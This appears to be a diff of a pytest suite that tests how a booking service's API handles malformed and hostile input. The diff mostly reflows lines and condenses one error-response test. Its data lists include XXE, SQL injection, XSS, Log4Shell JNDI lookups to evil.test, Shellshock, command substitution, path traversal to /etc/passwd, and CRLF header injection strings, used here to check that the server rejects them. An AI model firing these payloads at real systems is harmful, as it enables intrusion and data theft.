@@ -70,22 +70,24 @@ def nested(n, opening, closing):
 
 MALFORMED = {
     "one bracket": b"{", "no value": b'{"a":', "no end": b'{"a":"b', "cut in an escape": b'{"a":"\\u00',
-    "trailing comma": b'{"a":1,}', "no colon": b'{"a" 1}', "single quotes": b"{'a':1}", "no quotes": b"{a:1}",
-    "word": b"nul", "two values": b"{}{}", "text after": b"{} x", "NUL after": b"{}\0", "comment": b"{}//x",
-    "form": b"a=1&b=2", "XML": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
-    "byte order mark": b"\xef\xbb\xbf{}", "UTF-16": '{"a":1}'.encode("utf-16"), "noise": bytes(range(256)),
-    "same name twice": b'{"a":1,"a":1}', "same name, escaped": b'{"a":1,"\\u0061":2}',
-    "same name, inside": b'{"a":{"b":[{"c":1,"c":2}]}}',
+    "trailing comma": b'{"a":1,}', "no colon": b'{"a" 1}', "single quotes": b"{'a':1}",
+    "no quotes": b"{a:1}", "word": b"nul", "two values": b"{}{}", "text after": b"{} x",
+    "NUL after": b"{}\0", "comment": b"{}//x", "form": b"a=1&b=2",
+    "XML": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
+    "byte order mark": b"\xef\xbb\xbf{}", "UTF-16": '{"a":1}'.encode("utf-16"),
+    "noise": bytes(range(256)), "same name twice": b'{"a":1,"a":1}',
+    "same name, escaped": b'{"a":1,"\\u0061":2}', "same name, inside": b'{"a":{"b":[{"c":1,"c":2}]}}',
     "lone byte": b'{"a":"\xff"}', "overlong": b'{"a":"\xc0\x80"}', "surrogate": b'{"a":"\xed\xa0\x80"}',
     "above Unicode": b'{"a":"\xf4\x90\x80\x80"}', "cut character": b'{"a":"\xe2\x82"}',
     "lone surrogate": b'{"a":"\\ud800"}', "swapped surrogates": b'{"a":"\\udc00\\ud800"}',
     "NUL": b'{"a":"b\0c"}', "escaped NUL": b'{"a":"b\\u0000c"}', "NUL in a name": b'{"a\\u0000b":1}',
     "control": b'{"a":"\x01"}', "line end": b'{"a":"b\nc"}', "unknown escape": b'{"a":"\\x41"}',
-    "above 2^53": b'{"a":9007199254740993}', "below -2^53": b'{"a":-9007199254740993}', "1e999": b'{"a":1e999}',
-    "-1e999": b'{"a":-1e999}', "20 digits": b'{"a":18446744073709551616}', "zeros first": b'{"a":01}',
-    "plus": b'{"a":+1}', "no digits": b'{"a":-}', "dot": b'{"a":1.}', "NaN": b'{"a":NaN}',
-    "Infinity": b'{"a":Infinity}', "hexadecimal": b'{"a":0x10}', "long fraction": b'{"a":0.%s}' % (b"1" * 5000),
-    "33 deep": nested(33, b"[", b"]"), "100,000 deep": b"[" * 100000, "objects deep": b'{"a":' * 100000,
+    "above 2^53": b'{"a":9007199254740993}', "below -2^53": b'{"a":-9007199254740993}',
+    "1e999": b'{"a":1e999}', "-1e999": b'{"a":-1e999}', "20 digits": b'{"a":18446744073709551616}',
+    "zeros first": b'{"a":01}', "plus": b'{"a":+1}', "no digits": b'{"a":-}', "dot": b'{"a":1.}',
+    "NaN": b'{"a":NaN}', "Infinity": b'{"a":Infinity}', "hexadecimal": b'{"a":0x10}',
+    "long fraction": b'{"a":0.%s}' % (b"1" * 5000), "33 deep": nested(33, b"[", b"]"),
+    "100,000 deep": b"[" * 100000, "objects deep": b'{"a":' * 100000,
     "1,001 items": b'{"a":[%s]}' % b",".join([b"1"] * 1001),
     "1,001 members": b"{%s}" % b",".join(b'"a%d":1' % i for i in range(1001)),
     "a megabyte of spaces": b" " * (1 << 20), "a megabyte of brackets": b"[]," * (1 << 18),
@@ -102,8 +104,9 @@ def test_what_is_no_json(root, nothing_stored, op):
 GOOD = {
     "quote_create": {"guest_count": 10, "venue_zip": "95112", "event_type": "birthday", "addons": ["sake_bar"]},
     "login": {"email": "nobody@example.com", "password": "vermicelli 99 lamps"},
-    "booking_create": {"event_date": "2027-06-12", "event_time": "18:00", "adults": 10, "venue_zip": "95112",
-                       "venue_address": "1 Market Street", "contact": {"name": "Zo\u00eb", "email": "z@example.com"}},
+    "booking_create": {"event_date": "2027-06-12", "event_time": "18:00", "adults": 10,
+                       "venue_zip": "95112", "venue_address": "1 Market Street",
+                       "contact": {"name": "Zo\u00eb", "email": "z@example.com"}},
 }
 REAL = pytest.mark.parametrize("op", [pytest.param(o, id=o.name) for o in OPERATIONS if o.name in GOOD])
 
@@ -163,7 +166,8 @@ def test_other_media_types(root, nothing_stored, op):
 # --- members of a body
 
 WRONG = [None, True, 1.5, -1, 2**53, 10**15, "", " ", "x", "\u202e", "0" * 20000, [], [[]], [None], {},
-         {"a": {}}, ["x"] * 1000, "<script>alert(1)</script>", "' OR 1=1 --", "%n%n%s", "../../etc/passwd"]
+         {"a": {}}, ["x"] * 1000, "<script>alert(1)</script>", "' OR 1=1 --", "%n%n%s",
+         "../../etc/passwd"]
 
 
 def kind_of(value):
@@ -197,8 +201,8 @@ def test_any_values_at_all(root, nothing_stored, op):
 
 @WITH_BODY
 def test_members_that_nobody_asked_for(root, nothing_stored, op):
-    names = ["__proto__", "constructor", "is_admin", "permissions[]", "id ", "ID", "state", "total_cents", "a/b~c",
-             "a\nb", "\U0001f363", "\u202e", "$where", "%00", "x" * 10000, ""]
+    names = ["__proto__", "constructor", "is_admin", "permissions[]", "id ", "ID", "state", "total_cents",
+             "a/b~c", "a\nb", "\U0001f363", "\u202e", "$where", "%00", "x" * 10000, ""]
     for name in names:
         if name in op.body:
             continue
@@ -223,10 +227,11 @@ def test_a_huge_password_is_not_hashed(api, nothing_stored):
 
 STATION = "0198a000-0000-7000-8000-0000000000a1"
 HOSTILE_TEXTS = {
-    "Jo <script>alert(1)</script> Li": "Jo alert(1) Li", "<img src=x onerror=alert(1)>Jo": "Jo", "a < b": "a < b",
-    "O'Brien'; DROP TABLE booking.waitlist; --": None, "${jndi:ldap://evil.test/a}": None, "{{7*7}}": None,
-    "%s%n%x%99999d": None, "$(id)`id`|id": None, "../../../../etc/passwd": None, "Robert\\": None,
-    '","admin":true,"x":"': None, "=cmd|'/c calc'!A1": None, "line\r\nBcc: evil@example.com": "line\nBcc: evil@example.com",
+    "Jo <script>alert(1)</script> Li": "Jo alert(1) Li", "<img src=x onerror=alert(1)>Jo": "Jo",
+    "a < b": "a < b", "O'Brien'; DROP TABLE booking.waitlist; --": None,
+    "${jndi:ldap://evil.test/a}": None, "{{7*7}}": None, "%s%n%x%99999d": None, "$(id)`id`|id": None,
+    "../../../../etc/passwd": None, "Robert\\": None, '","admin":true,"x":"': None,
+    "=cmd|'/c calc'!A1": None, "line\r\nBcc: evil@example.com": "line\nBcc: evil@example.com",
     "\u05d0\u202e\U0001f363\u200d": None, "NULL": None, "\u00a0x\u00a0": None, "x" * 100: None,
 }
 
@@ -248,8 +253,8 @@ def test_text_is_data(root, db, sent):
     expect(root.delete(f"/api/v1/waitlist/{created['id']}"), 204)
 
 
-@pytest.mark.parametrize("text", ["control \x01", "DEL \x7f", "C1 \x9b", "", " \t\n", "<b></b>", "x" * 101,
-                                  "4242 4242 4242 4242", "card 4242424242424242 please"])
+@pytest.mark.parametrize("text", ["control \x01", "DEL \x7f", "C1 \x9b", "", " \t\n", "<b></b>",
+                                  "x" * 101, "4242 4242 4242 4242", "card 4242424242424242 please"])
 def test_text_that_is_refused(root, nothing_stored, text):
     op = next(o for o in OPERATIONS if o.name == "waitlist_create")
     reply = send(root, op, json.dumps({"name": text}).encode())
@@ -258,12 +263,13 @@ def test_text_that_is_refused(root, nothing_stored, text):
 
 # --- paths
 
-IDS = ["0", "1", "-1", "null", "undefined", "NaN", "*", "..", ".", "%2e%2e", "%2e", "..%2f..", "%2f", "%5c", "%00",
-       "%0a", "%0d%0aX-Evil:%201", "'", "%27%20OR%201=1--", "%22", "<script>", "%3Cscript%3E", "{id}", "%7Bid%7D",
-       "%ff", "%c0%ae", "%u002e", "%", "%2", "%zz", "x" * 1000, "x" * 5000, "0" * 36, "%F0%9F%8D%A3", "a;b=c", "a,b",
-       "00000000-0000-0000-0000-00000000000g", "00000000-0000-0000-0000-0000000000000",
-       "00000000-0000-0000-0000-000000000000%00", "00000000-0000-0000-0000-000000000000.json",
-       "(00000000-0000-0000-0000-000000000000)", "00000000000000000000000000000000"]
+IDS = ["0", "1", "-1", "null", "undefined", "NaN", "*", "..", ".", "%2e%2e", "%2e", "..%2f..", "%2f",
+       "%5c", "%00", "%0a", "%0d%0aX-Evil:%201", "'", "%27%20OR%201=1--", "%22", "<script>",
+       "%3Cscript%3E", "{id}", "%7Bid%7D", "%ff", "%c0%ae", "%u002e", "%", "%2", "%zz", "x" * 1000,
+       "x" * 5000, "0" * 36, "%F0%9F%8D%A3", "a;b=c", "a,b", "00000000-0000-0000-0000-00000000000g",
+       "00000000-0000-0000-0000-0000000000000", "00000000-0000-0000-0000-000000000000%00",
+       "00000000-0000-0000-0000-000000000000.json", "(00000000-0000-0000-0000-000000000000)",
+       "00000000000000000000000000000000"]
 
 
 @pytest.fixture(scope="module")
@@ -303,10 +309,11 @@ def test_ids_that_are_none(root, ask, nothing_stored, op):
 def spellings(path):
     """Other ways to write a path, which a careless reader takes for the same."""
     head, _, last = path.rpartition("/")
-    yield from (path + "/x", path + "/", path + "//", path + "/.", path + "/..;/", path + ".", path + ".json",
-                path + "%20", path + "%00", path + "%2f", path + ";", path + ";a=b", path + "%3f", path + "%23",
-                path + "\\", path + "%5c", "/" + path, "/." + path, "/x/.." + path, path.upper(),
-                f"{head}//{last}", f"{head}/./{last}", f"{head}/x/../{last}", f"{head}%2f{last}", f"{head}\\{last}",
+    yield from (path + "/x", path + "/", path + "//", path + "/.", path + "/..;/", path + ".",
+                path + ".json", path + "%20", path + "%00", path + "%2f", path + ";", path + ";a=b",
+                path + "%3f", path + "%23", path + "\\", path + "%5c", "/" + path, "/." + path,
+                "/x/.." + path, path.upper(), f"{head}//{last}", f"{head}/./{last}",
+                f"{head}/x/../{last}", f"{head}%2f{last}", f"{head}\\{last}",
                 f"{head}/%{ord(last[0]):02x}{last[1:]}", f"{head}/%25{ord(last[0]):02x}{last[1:]}",
                 path.replace("/api/v1", "/api/v2"), path.replace("/api/v1", "/api/V1"),
                 path.replace("/api/v1", "/API/v1"), path.replace("/api/v1", ""))
@@ -347,8 +354,8 @@ def test_other_methods(root, ask, path):
 @ALL
 def test_queries_that_are_none(root, ask, nothing_stored, op):
     target = filled(op.path)
-    for query in ("%", "%2", "%zz", "a=%", "a=%00", "%00=a", "a=%ff", "a=%c0%ae", "a=%ed%a0%80", "a=%u0041",
-                  "&".join(f"a{i}" for i in range(1000))):
+    for query in ("%", "%2", "%zz", "a=%", "a=%00", "%00=a", "a=%ff", "a=%c0%ae", "a=%ed%a0%80",
+                  "a=%u0041", "&".join(f"a{i}" for i in range(1000))):
         reply = ask(op.method, f"{target}?{query}", root.token)
         assert (reply.status_code, reply.json()["code"]) == (400, "malformed"), (query, reply.text)
     reply = ask(op.method, f"{target}?a={'x' * 9000}", root.token)
@@ -357,8 +364,8 @@ def test_queries_that_are_none(root, ask, nothing_stored, op):
 
 @ALL
 def test_parameters_that_nobody_asked_for(root, ask, nothing_stored, op):
-    for name in ("x", "id", "admin", "_method", "access_token", "callback", "limit[]", "fields", "%6e", "x" * 3000,
-                 "a%26b", "%3Cscript%3E", "%ff", ""):
+    for name in ("x", "id", "admin", "_method", "access_token", "callback", "limit[]", "fields", "%6e",
+                 "x" * 3000, "a%26b", "%3Cscript%3E", "%ff", ""):
         reply = ask(op.method, f"{filled(op.path)}?{name}=1", root.token)
         assert (reply.status_code, reply.json()["code"]) == (422, "invalid"), (name, reply.text)
         assert reply.json()["errors"][0]["reason"] == "Is not a parameter of this route"
@@ -380,9 +387,10 @@ def test_parameters_given_twice(root, ask, nothing_stored, op):
 
 @WITH_QUERY
 def test_values_of_parameters(root, ask, nothing_stored, op):
-    values = ["", "%20", "null", "-1", "0x10", "1e3", "1.0", "9223372036854775808", "1" * 400, "true%20", "TRUE", "[]",
-              "%27%20OR%20%271%27=%271", "%27;SELECT%20pg_sleep(9)--", "%25", "_", "%2525", "*", "%5b%5d", "a%00b",
-              "%0d%0aSet-Cookie:%20a=b", "2026-02-30", "0000-00-00", "99999-01-01", "%E2%80%AE", "%F0%9F%8D%A3"]
+    values = ["", "%20", "null", "-1", "0x10", "1e3", "1.0", "9223372036854775808", "1" * 400, "true%20",
+              "TRUE", "[]", "%27%20OR%20%271%27=%271", "%27;SELECT%20pg_sleep(9)--", "%25", "_", "%2525",
+              "*", "%5b%5d", "a%00b", "%0d%0aSet-Cookie:%20a=b", "2026-02-30", "0000-00-00",
+              "99999-01-01", "%E2%80%AE", "%F0%9F%8D%A3"]
     for name, value in itertools.product(op.query, values):
         start = time.monotonic()
         reply = ask(op.method, f"{filled(op.path)}?{name}={value}", root.token)
@@ -408,8 +416,8 @@ def test_a_cursor_of_another_list(root, nothing_stored):
 def test_nobody_says_who_he_is_but_nginx(api, demo, db):
     """A sign-in is remembered with the address that nginx saw."""
     said = "203.0.113.77"
-    for name in ("X-Real-IP", "X-Forwarded-For", "Forwarded", "True-Client-IP", "X-Client-IP", "X_Real_IP", "Via",
-                 "CF-Connecting-IP"):
+    for name in ("X-Real-IP", "X-Forwarded-For", "Forwarded", "True-Client-IP", "X-Client-IP",
+                 "X_Real_IP", "Via", "CF-Connecting-IP"):
         agent = uuid.uuid4().hex
         expect(api.post("/api/v1/auth/login", json=demo["CUSTOMER"], headers={
             name: f"for={said}" if name == "Forwarded" else said, "User-Agent": agent}))
@@ -418,8 +426,9 @@ def test_nobody_says_who_he_is_but_nginx(api, demo, db):
 
 
 @pytest.mark.parametrize("value", [
-    "", "Bearer", "Bearer ", "Basic YTpi", "Digest a=b", "bearer", "Bearer a b", "Bearer a, Bearer b", "Token x",
-    "Bearer " + "a" * 4000, "Bearer ..", "Bearer \tx", "Bearer %00", "Bearer null", "Bearer \xff", "x" * 4000])
+    "", "Bearer", "Bearer ", "Basic YTpi", "Digest a=b", "bearer", "Bearer a b", "Bearer a, Bearer b",
+    "Token x", "Bearer " + "a" * 4000, "Bearer ..", "Bearer \tx", "Bearer %00", "Bearer null",
+    "Bearer \xff", "x" * 4000])
 def test_authorization_that_is_none(api, value):
     reply = api.get("/api/v1/me", headers={"Authorization": value.encode("latin1")})
     assert "Is not" not in reply.text
@@ -427,8 +436,8 @@ def test_authorization_that_is_none(api, value):
     assert reply.headers["WWW-Authenticate"] == "Bearer"
 
 
-@pytest.mark.parametrize("value", ["", '""', '"', "a b", "a\tb", "k" * 256, '"%s"' % ("k" * 256), 'a"b', "a\\b", "\xe4",
-                                   '"a', "\x7f"])
+@pytest.mark.parametrize("value", ["", '""', '"', "a b", "a\tb", "k" * 256, '"%s"' % ("k" * 256), 'a"b',
+                                   "a\\b", "\xe4", '"a', "\x7f"])
 def test_keys_that_are_none(root, nothing_stored, value):
     body = dict(GOOD["booking_create"], event_date="2020-01-01")
     reply = root.request("POST", "/api/v1/bookings", json=body, headers={"Idempotency-Key": value.encode("latin1")})
@@ -448,11 +457,12 @@ def test_versions_that_are_none(root, nothing_stored, value):
     {"traceparent": "00-" + "g" * 52}, {"traceparent": "00-" + "0" * 4000}, {"traceparent": "\x01"},
     {"Accept": "x/" + "y" * 4000}, {"Accept-Encoding": "gzip;q=" + "9" * 4000}, {"Range": "bytes=0-0,-1"},
     {"Cookie": "a=" + "b" * 4000}, {"Transfer-Encoding": ""}, {"Connection": "X-Real-IP, Authorization"},
-    {"X-Forwarded-Host": "evil.test"}, {"X-Original-URL": "/api/v1/users"}, {"X-Rewrite-URL": "/api/v1/users"},
-    {"X-HTTP-Method-Override": "DELETE"}, {"Upgrade": "websocket", "Connection": "Upgrade"},
-    {"User-Agent": "() { :;}; /bin/id"}, {"Referer": "${jndi:ldap://evil.test/a}"}, {"Origin": "https://evil.test"},
-    {"!#$%&'*+-.^_`|~": "odd"}, {"X" * 4000: "long"}, {f"X-{i}": "many" for i in range(30)}],
-    ids=lambda headers: next(iter(headers))[:20])
+    {"X-Forwarded-Host": "evil.test"}, {"X-Original-URL": "/api/v1/users"},
+    {"X-Rewrite-URL": "/api/v1/users"}, {"X-HTTP-Method-Override": "DELETE"},
+    {"Upgrade": "websocket", "Connection": "Upgrade"}, {"User-Agent": "() { :;}; /bin/id"},
+    {"Referer": "${jndi:ldap://evil.test/a}"}, {"Origin": "https://evil.test"},
+    {"!#$%&'*+-.^_`|~": "odd"}, {"X" * 4000: "long"},
+    {f"X-{i}": "many" for i in range(30)}], ids=lambda headers: next(iter(headers))[:20])
 def test_headers_that_mean_nothing_here(api, headers):
     """Read or not, they change nothing: the reply is the usual one, or a refusal of the header."""
     sent = {k: v.encode("latin1") for k, v in headers.items()}
@@ -473,14 +483,13 @@ def test_replies_cannot_be_split(ask, where):
 
 def test_problems_tell_nothing_of_the_inside(api, root, login):
     """What is not there, what is not allowed and what is not known read the same to everybody."""
-    missing = [api.get(f"/api/v1/{path}") for path in ("none", "users/x", f"users/{uuid.uuid4()}/x", "metrics")]
-    for reply in missing:
-        problem = expect_problem(reply, 404, "not_found")
-        assert set(problem) == {"type", "title", "status", "code", "request_id"}
-    for reply in (api.get("/api/v1/users"), api.get(f"/api/v1/users/{uuid.uuid4()}")):
-        assert set(expect_problem(reply, 401, "unauthorized")) == {"type", "title", "status", "code", "request_id"}
+    some = f"/api/v1/users/{uuid.uuid4()}"
     customer = login("CUSTOMER")
-    for reply in (customer.get("/api/v1/users"), customer.get(f"/api/v1/users/{uuid.uuid4()}")):
-        assert set(expect_problem(reply, 403, "forbidden")) == {"type", "title", "status", "code", "request_id"}
-    gone = f"/api/v1/bookings/{uuid.uuid4()}"
-    assert set(expect_problem(root.get(gone), 404, "not_found")) == {"type", "title", "status", "code", "request_id"}
+    for reply, status, code in [
+            (api.get("/api/v1/none"), 404, "not_found"), (api.get("/api/v1/metrics"), 404, "not_found"),
+            (api.get("/api/v1/users/x"), 404, "not_found"), (api.get(some + "/x"), 404, "not_found"),
+            (api.get("/api/v1/users"), 401, "unauthorized"), (api.get(some), 401, "unauthorized"),
+            (customer.get("/api/v1/users"), 403, "forbidden"), (customer.get(some), 403, "forbidden"),
+            (root.get(some), 404, "not_found"), (root.get(f"/api/v1/bookings/{uuid.uuid4()}"), 404, "not_found")]:
+        problem = expect_problem(reply, status, code)
+        assert set(problem) == {"type", "title", "status", "code", "request_id"}
